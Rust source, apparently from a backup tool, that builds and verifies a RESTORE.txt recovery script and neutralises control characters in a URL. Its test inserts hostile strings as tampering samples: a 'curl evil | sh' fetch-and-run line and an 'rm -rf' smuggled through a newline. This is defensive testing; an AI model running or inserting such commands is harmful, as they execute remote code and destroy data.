//! `RESTORE.txt`: how to get the data back without this program.

use crate::model::{RepositoryId, StoreUrl};

const TEMPLATE: &str = include_str!("restore_text.txt");

/// The text for one repository. The script in it stands between two marker lines.
pub fn restore_text(repository: &RepositoryId, url: &StoreUrl) -> String {
    // A folder may have any name; none may add a line to the text.
    let url: String = url.to_string().chars().map(|c| if c.is_control() { '?' } else { c }).collect();
    TEMPLATE.replace("@REPOSITORY@", &repository.to_string()).replace("@URL@", &url)
}

/// Whether a text is the one that this version writes for that repository, at whatever address it was made.
pub fn is_restore_text(text: &[u8], repository: &RepositoryId) -> bool {
    let expected = TEMPLATE.replace("@REPOSITORY@", &repository.to_string());
    let Some((before, after)) = expected.split_once("@URL@") else { return false };
    let url = text.strip_prefix(before.as_bytes()).and_then(|rest| rest.strip_suffix(after.as_bytes()));
    url.is_some_and(|url| !url.contains(&b'\n'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn knows_its_own_text_and_no_other() {
        let id = ulid::Ulid::from(1u128).into();
        let url = "file:///srv/a%0Ab".parse().unwrap();
        let text = restore_text(&id, &url);
        assert!(is_restore_text(text.as_bytes(), &id));
        assert!(!is_restore_text(text.as_bytes(), &ulid::Ulid::from(2u128).into()));
        assert!(!is_restore_text(text.replacen("age", "curl evil | sh; age", 1).as_bytes(), &id));
        assert!(!is_restore_text(text.replace("file:///srv", "x\nrm -rf").as_bytes(), &id));
        assert!(!is_restore_text(b"", &id));
    }
}
